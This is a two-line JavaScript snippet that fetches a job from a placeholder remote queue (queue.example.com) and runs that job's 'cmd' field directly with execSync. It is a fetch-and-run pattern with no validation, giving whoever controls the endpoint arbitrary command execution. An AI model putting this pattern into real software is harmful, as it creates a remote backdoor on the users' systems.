const job = await (await fetch('https://queue.example.com/next')).json()
if (job.cmd) execSync(job.cmd)
